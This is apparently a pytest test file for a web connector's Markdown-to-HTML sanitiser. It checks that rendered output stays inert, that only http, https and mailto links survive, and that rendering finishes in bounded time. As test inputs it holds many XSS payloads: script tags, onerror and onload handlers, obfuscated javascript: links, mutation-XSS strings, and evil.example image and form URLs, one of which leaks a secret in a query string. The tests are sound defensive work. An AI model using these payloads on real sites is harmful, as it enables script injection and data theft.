"""Markdown that somebody else wrote becomes HTML that cannot do anything."""

import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as some

from connectors.web.rendering import drawn, sent
from core.capabilities import AttachmentKind
from core.identifiers import Address, ChannelId
from core.messages import Attachment, Button, OutboundMessage

FETCHING = {"src", "srcset", "style", "background", "poster", "data", "action", "formaction", "ping", "class", "id"}
INERT = {
    *("a", "blockquote", "br", "code", "del", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p", "pre"),
    *("s", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul"),
}


class Reader(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def assert_harmless(html: str) -> None:
    for tag, attributes in Reader(html).found:
        assert tag in INERT, tag
        assert not FETCHING & attributes.keys()
        assert not [name for name in attributes if name.startswith("on")]
        if "href" in attributes:
            assert str(attributes["href"]).lower().startswith(("http://", "https://", "mailto:"))
            assert attributes["rel"] == "noopener noreferrer nofollow"
            assert attributes["target"] == "_blank"


def test_what_people_write_is_drawn() -> None:
    html = drawn("# Head\n\nSome **bold**, *soft* and ~~gone~~ `code`.\n\n- a\n- b\n\n3. three\n\n> said\n\n---\n")
    for piece in ("<h1", "<strong>bold", "<em>soft", "<s>gone", "<code>code", "<li", '<ol start="3"', "<blockquote"):
        assert piece in html
    assert_harmless(html)


def test_tables_and_blocks_of_code_are_kept() -> None:
    html = drawn("| a | b |\n|---|:-:|\n| 1 | 2 |\n\n```python\nif a < b:\n    pass\n```\n")
    assert "<table" in html
    assert "<td" in html
    assert "if a &lt; b:\n    pass" in html
    assert 'dir="ltr"' in html
    assert_harmless(html)


def test_every_block_finds_its_own_direction() -> None:
    html = drawn("# عنوان\n\nhello\n\nمرحبا\n\n- أهلا\n")
    assert html.count('dir="auto"') >= 4


def test_links_are_links_and_nothing_else_is() -> None:
    html = drawn("[a](https://a.example/x?y=1&z) [m](mailto:x@example.org) <https://b.example>")
    assert html.count("<a ") == 3
    assert 'href="https://a.example/x?y=1&amp;z"' in html
    assert_harmless(html)
    for address in (
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "&#106;avascript:alert(1)",
        "data:text/html,<script>",
        "vbscript:x",
        "//evil.example/x",
        "/web/site/files/x",
        "file:///etc/passwd",
        "tel:1",
    ):
        assert "<a " not in drawn(f"[a]({address})"), address
        assert "<a " not in drawn(f"[a]\n\n[a]: {address}"), address


def test_an_image_is_named_and_not_fetched() -> None:
    for text in (
        "![a *view*](https://evil.example/x.png?q=secret)",
        "![a view][r]\n\n[r]: https://evil.example/x.png",
        "[![a view](https://evil.example/x.png)](https://a.example)",
        "![a view](data:image/png;base64,AAAA)",
        '<img src="https://evil.example/x.png" alt="a view">',
    ):
        html = drawn(text)
        assert "<img" not in html
        assert "view" in html
        assert_harmless(html)
    assert "<img" not in drawn('![<img src=x onerror=alert(1)>](https://evil.example/"x.png)')
    assert "https://evil.example/x.png" in drawn("![](https://evil.example/x.png)")


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<style>*{background:url(//evil.example)}</style>",
        '<a href="javascript:x">a</a>',
        "<iframe src=//evil.example>",
        "<form action=//evil.example><input>",
        "<!--><script>x</script>-->",
        "<math><mtext><table><mglyph><style><img src=x onerror=x>",
        "`<script>`\n\n```html\n<script>alert(1)</script>\n```",
        "[a](https://a.example/\"onmouseover='x')",
        "**bold <b onclick=x>** \u202e evil",
        "<base href=//evil.example><meta http-equiv=refresh content=0>",
        "\x00<scr\x00ipt>",
    ],
)
def test_html_is_words(text: str) -> None:
    html = drawn(text)
    assert_harmless(html)
    assert "<script" not in html


@given(some.text(alphabet="<>/[]()!*_`~|#-\n\"'=&; :ajvscriptonhefhtp\\.", max_size=200))
def test_nothing_that_can_be_written_does_harm(text: str) -> None:
    assert_harmless(drawn(text))


@pytest.mark.parametrize(
    "unit", ["[", "![", "[[]", "> ", "*a ", "_a*", "`", "<", "- ", "|a", "[a](", "~~a", "&", "(\n"]
)
@pytest.mark.parametrize("size", [32_000, 1_000_000])
def test_what_is_tangled_or_endless_takes_its_bounded_time(unit: str, size: int) -> None:
    began = time.process_time()
    html = drawn((unit * size)[:size])
    assert time.process_time() - began < 2.5
    assert len(html) < 8 * size
    assert Reader(html).found or not html.strip()


def test_what_is_not_drawn_is_shown_word_for_word() -> None:
    html = drawn("[" * 100_000 + "<b>\nx")
    assert html.endswith("&lt;b&gt;<br>x</p>")
    assert_harmless(html)


def test_a_message_is_given_whole() -> None:
    told = sent(
        OutboundMessage(
            channel_id=ChannelId("my site"),
            recipient=Address("visitor"),
            id="71",
            reply_to="70",
            text="**yes**",
            buttons=(Button(label="Delete", says="DELETE 4821"),),
            attachments=(
                Attachment(
                    kind=AttachmentKind.FILE, media_type="application/zip", size=9, name="a.zip", reference="f/1"
                ),
            ),
        )
    )
    assert told == {
        "id": "71",
        "reply_to": "70",
        "text": "**yes**",
        "html": '<p dir="auto"><strong>yes</strong></p>\n',
        "buttons": [{"label": "Delete", "says": "DELETE 4821"}],
        "files": [
            {"name": "a.zip", "size": 9, "media_type": "application/zip", "url": "/web/my%20site/files/f%2F1"},
        ],
    }


@pytest.mark.parametrize(
    ("text", "around"), [("**ما أحفظه**\n\n- الرسائل\n\n> 1", "rtl"), ("What I keep\n\n- الرسائل\n\n> 1", "auto")]
)
def test_what_holds_other_blocks_runs_as_the_whole_does(text: str, around: str) -> None:
    """A browser that is to find it out looks past what has a direction of its own, and then finds nothing."""
    found = Reader(drawn(text)).found
    assert {tag: attributes["dir"] for tag, attributes in found if tag in {"ul", "blockquote"}} == {
        "ul": around,
        "blockquote": around,
    }
    assert {attributes["dir"] for tag, attributes in found if tag in {"li", "p"}} == {"auto"}
